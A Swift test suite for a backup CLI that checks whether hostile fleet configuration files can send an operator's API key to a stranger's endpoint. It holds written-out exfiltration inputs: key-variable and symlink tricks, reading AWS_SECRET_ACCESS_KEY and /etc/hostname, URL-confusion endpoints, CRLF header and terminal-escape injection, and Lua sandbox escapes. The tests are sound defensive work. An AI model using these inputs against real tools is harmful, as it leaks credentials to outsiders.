import BackupsEmulator
import BkupJSON
import BkupTestSupport
import Foundation
import XCTest

#if canImport(Glibc)
import Glibc
#endif

/// Fleet files written by someone else (a pull request), tried as an attacker would: every way
/// to make bkup send the operator's key, or another secret, to a stranger. The operator's
/// endpoint is a real emulator; the stranger is a real listener on loopback that records every
/// header it receives. Each attack is refused before the first request (exit 2, naming the
/// project, the setting and the rule, never the key), and the stranger hears nothing.
///
/// Tried: the operator's variable by name (allowed or not), under another name, its key file by a
/// relative path, a symlink (to the file, to its folder), a copy, an allowed key folder holding it,
/// a text containing it; other secrets (any variable, any file); endpoints that read as the
/// operator's (user info, fragment, query, backslash, percent-encoded host, user:pass on the
/// operator's own host), others that must not inherit its key (localhost, https, 127.1, the same
/// port on ::1 in three spellings), spellings that are the operator's (trailing slash, scheme case);
/// TLS weakened for the operator's key (selfSigned, caFile); a redirect from the operator's
/// endpoint; header and terminal injection through a project or a name; the same through
/// backups.connect (by variable, by the key read from its file, inside a longer key), under
/// --sandbox, through backups.fleet, through apply --fleet, and a plan file naming the stranger;
/// and a Lua fleet file that writes a file, exits 0, reads the environment, loads code or files,
/// loops, allocates, sets a finalizer, or hangs in a C function.
final class HostileFleetTests: XCTestCase {
    var emulator: EmulatorHarness!
    var stranger: HeaderRecorder!
    var dir: String!
    var keyPath: String { dir + "/op/key.txt" }
    var key: String { emulator.key }

    override func setUpWithError() throws {
        var config = EmulatorConfiguration(key: "operator-key-\(UUID().uuidString)")
        config.port = 0
        config.projects = ["alpha", "beta"]
        emulator = EmulatorHarness(server: try EmulatorServer.startBlocking(config))
        stranger = try XCTUnwrap(HeaderRecorder())
        dir = NSTemporaryDirectory() + "bkup-hostile-\(UUID().uuidString)"
        for folder in ["op", "pr"] { try FileManager.default.createDirectory(atPath: dir + "/" + folder, withIntermediateDirectories: true) }
        _ = try write("op/key.txt", key)
        _ = try write("job.lua", "print(backups.config.project, backups.policies.list().total)")
    }

    override func tearDownWithError() throws {
        let e = emulator!
        try e.blocking { await e.stop() }
        try? FileManager.default.removeItem(atPath: dir)
    }

    @discardableResult
    func write(_ name: String, _ text: String) throws -> String {
        let path = dir + "/" + name
        try text.write(toFile: path, atomically: true, encoding: .utf8)
        chmod(path, 0o600)
        return path
    }

    /// The operator's command: its own key (a file, and the variable too), its own endpoint, and
    /// the pull request's fleet file.
    func run(fleet text: String, _ extra: [String] = [], env: [String: String] = [:], script: [String]? = nil) throws -> Run {
        let fleet = try write("pr/fleet.json", text)
        return try runTool(["--key-file", keyPath, "--endpoint", emulator.url] + extra + ["--fleet", fleet] + (script ?? [dir + "/job.lua"]),
                           env: ["APPWRITE_API_KEY": key, "APPWRITE_PROJECT_ID": "alpha", "XDG_DATA_HOME": dir!].merging(env) { _, b in b })
    }

    func member(_ settings: String) -> String { #"{"projects": [{"project": "alpha", "#  + settings + "}]}" }

    /// Refused before anything was sent: exit 2, the words of the rule, no key anywhere.
    func assertRefused(_ r: Run, _ words: [String], file: StaticString = #filePath, line: UInt = #line) {
        XCTAssertEqual(r.status, 2, r.stdout + r.stderr, file: file, line: line)
        for w in words { XCTAssertTrue(r.stderr.contains(w), "'\(w)' in: \(r.stderr)", file: file, line: line) }
        XCTAssertTrue(r.stderr.contains("nothing was sent"), r.stderr, file: file, line: line)
        XCTAssertFalse((r.stdout + r.stderr).contains(key), "the key was printed", file: file, line: line)
        XCTAssertEqual(stranger.received.count, 0, "the stranger heard: \(stranger.received)", file: file, line: line)
    }

    // MARK: the operator's key, by another name

    func testTheOperatorsVariableIsNotOneAFleetFileMayName() throws {
        let r = try run(fleet: member(#""endpoint": "\#(stranger.url)", "keyEnv": "APPWRITE_API_KEY""#))
        assertRefused(r, ["project alpha", "keyEnv APPWRITE_API_KEY", "only variables starting with BKUP_KEY_ or given with --key-env"])
    }

    func testAllowingTheOperatorsVariableDoesNotLetItsValueTravel() throws {
        let r = try run(fleet: member(#""endpoint": "\#(stranger.url)", "keyEnv": "APPWRITE_API_KEY""#), ["--key-env", "APPWRITE_API_KEY"])
        assertRefused(r, ["project alpha", "the key is the operator's", "sent only to the operator's endpoint (\(emulator.url))"])
    }

    func testTheOperatorsKeyInAnotherVariableIsStillTheOperatorsKey() throws {
        let r = try run(fleet: member(#""endpoint": "\#(stranger.url)", "keyEnv": "BKUP_KEY_ALPHA""#), env: ["BKUP_KEY_ALPHA": key])
        assertRefused(r, ["project alpha", "the key is the operator's"])
    }

    func testTheOperatorsKeyFileByAPathOutsideTheFleetFolder() throws {
        let r = try run(fleet: member(#""endpoint": "\#(stranger.url)", "keyFile": "../op/key.txt""#))
        assertRefused(r, ["project alpha", "keyFile ../op/key.txt resolves outside the file's folder", "--key-dir"])
    }

    func testASymlinkInTheFleetFolderToTheOperatorsKeyFile() throws {
        try FileManager.default.createSymbolicLink(atPath: dir + "/pr/alpha.key", withDestinationPath: "../op/key.txt")
        let r = try run(fleet: member(#""endpoint": "\#(stranger.url)", "keyFile": "alpha.key""#))
        assertRefused(r, ["project alpha", "keyFile alpha.key resolves outside"])
        // A symlinked folder is the same trick one level up.
        try FileManager.default.createSymbolicLink(atPath: dir + "/pr/keys", withDestinationPath: "../op")
        assertRefused(try run(fleet: member(#""endpoint": "\#(stranger.url)", "keyFile": "keys/key.txt""#)), ["keyFile keys/key.txt resolves outside"])
    }

    func testACopyOfTheOperatorsKeyInsideTheFleetFolder() throws {
        try write("pr/copy.key", key + "\n")
        let r = try run(fleet: member(#""endpoint": "\#(stranger.url)", "keyFile": "copy.key""#))
        assertRefused(r, ["project alpha", "the key is the operator's"])
    }

    func testAKeyFolderTheOperatorAllowsDoesNotLetTheOperatorsKeyTravel() throws {
        let r = try run(fleet: member(#""endpoint": "\#(stranger.url)", "keyFile": "\#(keyPath)""#), ["--key-dir", dir + "/op"])
        assertRefused(r, ["project alpha", "the key is the operator's"])
    }

    func testATextThatHoldsTheOperatorsKey() throws {
        try write("pr/.env", "APPWRITE_API_KEY=" + key)
        assertRefused(try run(fleet: member(#""endpoint": "\#(stranger.url)", "keyFile": ".env""#)), ["the key is the operator's"])
    }

    // MARK: other secrets

    func testAnyOtherSecretTheProcessCanReadIsRefusedForEveryProjectAtOnce() throws {
        let r = try run(fleet: """
            {"endpoint": "\(stranger.url)", "projects": [
              {"project": "alpha", "keyEnv": "AWS_SECRET_ACCESS_KEY"},
              {"project": "beta", "keyFile": "/etc/hostname"}]}
            """, ["--summary-json", dir + "/summary.json"], env: ["AWS_SECRET_ACCESS_KEY": "aws-secret-value-123"])
        assertRefused(r, ["2 projects refused", "project alpha: keyEnv AWS_SECRET_ACCESS_KEY: a file may name only variables",
                          "project beta: keyFile /etc/hostname resolves outside"])
        XCTAssertFalse(r.stderr.contains("aws-secret-value-123"))
        // CI's summary says why nothing ran.
        let summary = try JSONCodec.decode(Array(try XCTUnwrap(FileManager.default.contents(atPath: dir + "/summary.json"))))
        XCTAssertEqual(summary["exitStatus"], .integer(2))
        XCTAssertTrue(summary["error"]?.stringValue?.contains("project beta: keyFile /etc/hostname resolves outside") == true, "\(summary)")
    }

    func testWhatTheOperatorAllowsMayGoWhereTheFleetFileSays() throws {
        // The stranger's own key, from a folder and a variable the operator named: sent, and only it.
        try FileManager.default.createDirectory(atPath: dir + "/secrets", withIntermediateDirectories: true)
        let own = try write("secrets/stranger.key", "stranger-own-key-1")
        for settings in [#""keyFile": "\#(own)""#, #""keyEnv": "BKUP_KEY_STRANGER""#, #""keyEnv": "STRANGER_KEY""#] {
            let r = try run(fleet: member(#""endpoint": "\#(stranger.url)", "#  + settings), ["--key-dir", dir + "/secrets", "--key-env", "STRANGER_KEY"],
                            env: ["BKUP_KEY_STRANGER": "stranger-own-key-1", "STRANGER_KEY": "stranger-own-key-1"])
            XCTAssertEqual(r.status, 1, "the stranger answers 401: \(r.stdout)\(r.stderr)")
        }
        XCTAssertEqual(stranger.received.count, 3, "each run's one request, not retried (a 401): \(stranger.received)")
        XCTAssertTrue(stranger.saw("stranger-own-key-1"))
        XCTAssertFalse(stranger.saw(key))
    }

    // MARK: endpoints that look like the operator's

    func testEndpointsThatAreNotPlainURLsAreRefused() throws {
        let op = URL(string: emulator.url)!.port!, s = stranger.port
        for endpoint in ["http://127.0.0.1:\(op)@127.0.0.1:\(s)/v1", "http://127.0.0.1:\(s)/v1#@127.0.0.1:\(op)/v1",
                         "http://127.0.0.1:\(s)/v1?u=http://127.0.0.1:\(op)/v1", #"http://127.0.0.1:\#(s)\\@127.0.0.1:\#(op)/v1"#,
                         "http://127.0.0.%31:\(s)/v1", "http://user:pass@127.0.0.1:\(op)/v1"] {
            let r = try run(fleet: member(#""endpoint": "\#(endpoint)""#))
            assertRefused(r, ["project alpha: endpoint"])
            XCTAssertFalse(r.stderr.contains("pass@"), "a password in a URL is never echoed: \(r.stderr)")
        }
    }

    func testAnotherEndpointNeverInheritsTheOperatorsKey() throws {
        let op = URL(string: emulator.url)!.port!
        for endpoint in [stranger.url, "http://localhost:\(stranger.port)/v1", "https://127.0.0.1:\(op)/v1", "http://127.1:\(op)/v1"] {
            assertRefused(try run(fleet: member(#""endpoint": "\#(endpoint)""#)), ["project alpha", "another endpoint needs its own key"])
        }
    }

    /// Another listener on the operator's port, on ::1: `localhost` may be it, so it is not the
    /// operator's endpoint, by any spelling.
    func testTheSamePortOnAnotherAddressIsAnotherEndpoint() throws {
        let op = UInt16(URL(string: emulator.url)!.port!)
        guard let twin = HeaderRecorder(ipv6: true, port: op) else { throw XCTSkip("no IPv6 loopback here") }
        for endpoint in ["http://[::1]:\(op)/v1", "http://[0:0:0:0:0:0:0:1]:\(op)/v1", "http://localhost:\(op)/v1"] {
            assertRefused(try run(fleet: member(#""endpoint": "\#(endpoint)""#)), ["another endpoint needs its own key"])
            assertRefused(try run(fleet: member(#""endpoint": "\#(endpoint)", "keyEnv": "BKUP_KEY_A""#), env: ["BKUP_KEY_A": key]),
                          ["the key is the operator's"])
        }
        XCTAssertEqual(twin.received.count, 0, "\(twin.received)")
    }

    func testTheOperatorsEndpointSpelledAnotherWayIsTheOperatorsEndpoint() throws {
        let upper = emulator.url.replacingOccurrences(of: "http://", with: "HTTP://")
        for endpoint in [emulator.url + "/", upper] {
            let r = try run(fleet: member(#""endpoint": "\#(endpoint)""#))
            XCTAssertEqual(r.status, 0, endpoint + ": " + r.stdout + r.stderr)
            XCTAssertTrue(r.stdout.contains("[alpha] alpha\t0"), r.stdout)
        }
    }

    func testAFleetFileCannotWeakenTheTLSTheOperatorsKeyTravelsOver() throws {
        try write("pr/ca.pem", "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n")
        assertRefused(try run(fleet: member(#""selfSigned": true"#)), ["project alpha", "selfSigned", "certificate checked as the operator set it"])
        assertRefused(try run(fleet: member(#""caFile": "ca.pem""#)), ["project alpha", "caFile", "certificate authorities the operator set"])
    }

    func testARedirectIsNeverFollowed() throws {
        let operatorEndpoint = try XCTUnwrap(HeaderRecorder(answer: HeaderRecorder.redirect(to: stranger.url + "/backups/policies")))
        let fleet = try write("pr/fleet.json", member(#""name": "alpha""#))
        let r = try runTool(["--key-file", keyPath, "--endpoint", operatorEndpoint.url, "--fleet", fleet, dir + "/job.lua"])
        XCTAssertEqual(r.status, 1, r.stdout + r.stderr)
        XCTAssertTrue(operatorEndpoint.saw(key), "the operator's own endpoint gets the key")
        XCTAssertEqual(stranger.received.count, 0, "\(stranger.received)")
    }

    func testAProjectOrNameThatWouldInjectAHeaderOrAnEscape() throws {
        let r = try run(fleet: #"{"projects": [{"project": "alpha\r\nX-Appwrite-Key: x"}]}"#)
        XCTAssertEqual(r.status, 2, r.stderr)
        XCTAssertTrue(r.stderr.contains("project must be printable text"), r.stderr)
        let named = try run(fleet: #"{"projects": [{"project": "alpha", "name": "\u001b]0;pwned\u0007"}]}"#)
        XCTAssertEqual(named.status, 2, named.stderr)
        XCTAssertTrue(named.stderr.contains("name must be printable text"), named.stderr)
    }

    /// Characters that print as something else (a C1 CSI, NEL, a line separator, a direction
    /// override) and a name of megabytes are refused as the C0 controls are.
    func testANameThatDisguisesWhatItSaysOrFloodsTheTable() throws {
        for disguise in ["\\u009b31m", "a\\u0085b", "a\\u2028b", "\\u202egnp.cod"] {
            let r = try run(fleet: #"{"projects": [{"project": "alpha", "name": "x\#(disguise)"}]}"#)
            XCTAssertEqual(r.status, 2, disguise + ": " + r.stdout + r.stderr)
            XCTAssertTrue(r.stderr.contains("name must be printable text"), r.stderr)
        }
        let long = try run(fleet: #"{"projects": [{"project": "alpha", "name": "\#(String(repeating: "n", count: 100_000))"}]}"#)
        XCTAssertEqual(long.status, 2)
        XCTAssertTrue(long.stderr.contains("name is longer than 2048 bytes"), String(long.stderr.prefix(300)))
    }

    /// A setting given twice: a reviewer reads the first, JSON readers take the last. Refused,
    /// with where the second one stands.
    func testASettingGivenTwiceIsRefused() throws {
        _ = try write("pr/own.key", "a-key-of-the-fleet-file")
        let r = try run(fleet: #"{"projects": [{"project": "alpha", "endpoint": "\#(emulator.url)", "keyFile": "own.key",\#n "endpoint": "\#(stranger.url)"}]}"#)
        XCTAssertEqual(r.status, 2, r.stdout + r.stderr)
        XCTAssertTrue(r.stderr.contains("fleet.json:2:2: not JSON: the key \"endpoint\" is given twice in one object"), r.stderr)
        XCTAssertEqual(stranger.received.count, 0)
    }

    /// A key file of gigabytes (sparse: it costs no disk) is refused at 64 KiB, never read whole;
    /// the fleet file itself at 16 MiB; the operator's own --key-file alike.
    func testHugeFilesAreRefusedWithoutBeingRead() throws {
        let huge = dir + "/pr/huge.key"
        XCTAssertTrue(FileManager.default.createFile(atPath: huge, contents: nil))
        XCTAssertEqual(truncate(huge, 3 << 30), 0)
        let r = try run(fleet: member(#""endpoint": "\#(stranger.url)", "keyFile": "huge.key""#))
        XCTAssertEqual(r.status, 2, r.stdout + r.stderr)
        XCTAssertTrue(r.stderr.contains("is larger than 64 KiB: a key file holds one key"), r.stderr)
        let own = try runTool(["--key-file", huge, "--endpoint", emulator.url, "-e", "print(1)"], env: ["APPWRITE_PROJECT_ID": "alpha"])
        XCTAssertEqual(own.status, 2, own.stdout + own.stderr)
        XCTAssertTrue(own.stderr.contains("is larger than 64 KiB"), own.stderr)
        let fleet = dir + "/pr/huge.json"
        XCTAssertTrue(FileManager.default.createFile(atPath: fleet, contents: nil))
        XCTAssertEqual(truncate(fleet, 1 << 30), 0)
        let big = try runTool(["--fleet", fleet, dir + "/job.lua"], env: ["APPWRITE_API_KEY": key, "XDG_DATA_HOME": dir!])
        XCTAssertEqual(big.status, 2, big.stdout + big.stderr)
        XCTAssertTrue(big.stderr.contains("the fleet file is larger than 16 MiB"), big.stderr)
        XCTAssertEqual(stranger.received.count, 0)
    }

    /// A file the run writes at its end is checked before it starts: no green run without it.
    func testOutputFilesThatCannotBeWrittenAreUsageErrorsBeforeTheRun() throws {
        let fleet = try write("pr/fleet.json", member(#""endpoint": "\#(emulator.url)""#))
        for args in [["--summary-json", "/nonexistent/dir/s.json", "--fleet", fleet, dir + "/job.lua"],
                     ["--plan-out", "/nonexistent/dir/p.json", dir + "/job.lua"],
                     ["run", "--plan-out", dir + "/pr", "audit"]] {
            let r = try runTool(["--key-file", keyPath, "--endpoint", emulator.url] + args, env: ["APPWRITE_PROJECT_ID": "alpha", "XDG_DATA_HOME": dir!])
            XCTAssertEqual(r.status, 2, "\(args): " + r.stdout + r.stderr)
            XCTAssertTrue(r.stderr.contains("cannot write"), r.stderr)
            XCTAssertEqual(r.stdout, "", "nothing ran: \(r.stdout)")
        }
    }

    // MARK: a fleet file in Lua

    /// A Lua fleet file is configuration: it reads nothing, writes nothing, ends within a small
    /// budget, and whatever goes wrong in it is exit status 2 naming the file, never a green run.
    func testALuaFleetFileIsConfigurationAndCanDoNothingElse() throws {
        let victim = dir + "/written-by-the-fleet-file"
        let cases: [(String, String, String, [String])] = [
            ("write.lua", "io.open('\(victim)', 'w'):write('x')", "global 'io'", []),
            ("exit.lua", "os.exit(0)", "field 'exit'", []),
            ("getenv.lua", "return {projects = {{project = os.getenv('APPWRITE_API_KEY')}}}", "field 'getenv'", []),
            ("require.lua", "local io = require('io')", "global 'require'", []),
            ("load.lua", "return load('return {}')()", "global 'load'", []),
            ("dofile.lua", "return dofile('\(dir!)/pr/other.lua')", "global 'dofile'", []),
            ("debug.lua", "debug.sethook()", "global 'debug'", []),
            ("coroutine.lua", "coroutine.wrap(function() while true do end end)()", "global 'coroutine'", []),
            ("gc.lua", "setmetatable({}, {__gc = function() while true do end end})", "finalizers (__gc) are not available", []),
            ("loop.lua", "while true do end", "its budget of 10000000 instructions", ["--timeout", "3"]),
            ("memory.lua", "local s = string.rep('x', 64 << 20)", "needs more than 32 MB", []),
            ("function.lua", "return {projects = {{project = print}}}", "returns what is not a table of settings", []),
            ("stuck.lua", "return string.rep('a', 40):find(string.rep('a*', 40) .. 'b')", "ran past its time budget of 1.0 s and did not stop", ["--timeout", "1"]),
        ]
        try write("pr/other.lua", "return {projects = {{project = 'alpha'}}}")
        for (name, source, words, extra) in cases {
            let path = try write("pr/" + name, source)
            // As cron runs it (bkup run --fleet F audit), and as a script is run.
            let r = try runTool(name == "exit.lua" ? ["run", "--fleet", path, "audit"] : extra + ["--fleet", path, dir + "/job.lua"],
                                env: ["APPWRITE_API_KEY": key, "XDG_DATA_HOME": dir!], timeout: 60)
            XCTAssertEqual(r.status, 2, name + ": " + r.stdout + r.stderr)
            XCTAssertTrue(r.stderr.contains(path) && r.stderr.contains(words), "\(name): '\(words)' in \(r.stderr)")
            XCTAssertEqual(r.stdout, "", name)
        }
        XCTAssertFalse(FileManager.default.fileExists(atPath: victim))
        XCTAssertEqual(stranger.received.count, 0)
    }

    // MARK: the same rule elsewhere

    func testConnectionsFromScriptsFollowTheSameRule() throws {
        let env = ["APPWRITE_API_KEY": key, "APPWRITE_PROJECT_ID": "alpha", "APPWRITE_ENDPOINT": emulator.url]
        let connect = try runTool(["-e", """
            print(pcall(backups.connect, {endpoint = "\(stranger.url)", keyEnv = "APPWRITE_API_KEY"}))
            local f = io.open("\(keyPath)"); local k = f:read("a"); f:close()
            print(pcall(backups.connect, {endpoint = "\(stranger.url)", key = k}))
            print(pcall(backups.connect, {endpoint = "\(stranger.url)", key = "x" .. k .. "x"}))
            """], env: env)
        XCTAssertEqual(connect.stdout.components(separatedBy: "the key is the operator's (from APPWRITE_API_KEY)").count, 4, connect.stdout + connect.stderr)
        let sandboxed = try runTool(["--sandbox", "-e", """
            print(pcall(backups.connect, {endpoint = "\(stranger.url)", keyEnv = "BKUP_KEY_X"}))
            print(pcall(backups.connect, {endpoint = "\(stranger.url)", keyFile = "\(keyPath)"}))
            print(pcall(backups.fleet, "\(dir!)/pr/fleet.json"))
            """], env: env)
        XCTAssertTrue(sandboxed.stdout.contains("keyEnv is not available in the sandbox"), sandboxed.stdout + sandboxed.stderr)
        XCTAssertTrue(sandboxed.stdout.contains("keyFile is not available in the sandbox"), sandboxed.stdout)
        XCTAssertTrue(sandboxed.stdout.contains("fleet files are not available in the sandbox"), sandboxed.stdout)
        // backups.fleet reads a fleet file as --fleet does.
        let fleet = try write("pr/fleet.json", member(#""endpoint": "\#(stranger.url)", "keyFile": "../op/key.txt""#))
        let viaLua = try runTool(["-e", "print(pcall(backups.fleet, '\(fleet)'))"], env: env)
        XCTAssertTrue(viaLua.stdout.contains("keyFile ../op/key.txt resolves outside"), viaLua.stdout + viaLua.stderr)
        XCTAssertFalse((connect.stdout + connect.stderr + sandboxed.stdout + viaLua.stdout).contains(key))
        XCTAssertEqual(stranger.received.count, 0, "\(stranger.received)")
    }

    /// A plan file names where its steps belong; apply sends them only through the connections the
    /// operator configured, so a plan that names the stranger is refused before anything is sent.
    func testAPlanFileNamesWhereItsStepsBelongNeverWhereAKeyGoes() throws {
        let plan = dir + "/plan.json"
        let made = try runTool(["--key-file", keyPath, "--endpoint", emulator.url, "--project", "alpha", "--plan-out", plan, "-e",
                                "backups.policies.create{id = 'p1', services = {'databases'}, retention = 1, schedule = '@daily'}"],
                               env: ["XDG_DATA_HOME": dir!])
        XCTAssertEqual(made.status, 0, made.stderr)
        // The same plan, its target moved to the stranger and its checksum made again (as anyone can).
        let text = String(decoding: try XCTUnwrap(FileManager.default.contents(atPath: plan)), as: UTF8.self)
            .replacingOccurrences(of: emulator.url, with: stranger.url)
        guard case .object(var unsigned) = try JSONCodec.decode(text) else { return XCTFail(text) }
        unsigned["checksum"] = nil
        let sum = try runProgram("/usr/bin/env", ["sha256sum"], stdin: try JSONCodec.encode(.object(unsigned), options: .init(sortKeys: true)))
        unsigned["checksum"] = .string("sha256:" + String(sum.stdout.prefix(64)))
        try write("pr/plan.json", try JSONCodec.encode(.object(unsigned), options: .init(pretty: true, sortKeys: true)))
        let r = try runTool(["apply", "--key-file", keyPath, "--endpoint", emulator.url, "--project", "alpha", "--yes", dir + "/pr/plan.json"],
                            env: ["XDG_DATA_HOME": dir!])
        XCTAssertEqual(r.status, 1, r.stdout + r.stderr)
        XCTAssertTrue(r.stderr.contains("the plan is for project alpha at \(stranger.url), but the configured connection is project alpha at \(emulator.url): nothing was sent"),
                      r.stderr)
        XCTAssertEqual(stranger.received.count, 0, "\(stranger.received)")
    }

    func testApplyReadsAFleetFileByTheSameRule() throws {
        let plan = dir + "/plan.json"
        let made = try runTool(["--key-file", keyPath, "--endpoint", emulator.url, "--project", "alpha", "--plan-out", plan, "-e",
                                "backups.policies.create{id = 'p1', services = {'databases'}, retention = 1, schedule = '@daily'}"],
                               env: ["XDG_DATA_HOME": dir!])
        XCTAssertEqual(made.status, 0, made.stderr)
        let fleet = try write("pr/fleet.json", member(#""endpoint": "\#(stranger.url)", "keyEnv": "APPWRITE_API_KEY""#))
        let r = try runTool(["apply", "--key-file", keyPath, "--endpoint", emulator.url, "--fleet", fleet, "--yes", plan],
                            env: ["APPWRITE_API_KEY": key, "XDG_DATA_HOME": dir!])
        assertRefused(r, ["project alpha", "keyEnv APPWRITE_API_KEY"])
    }
}
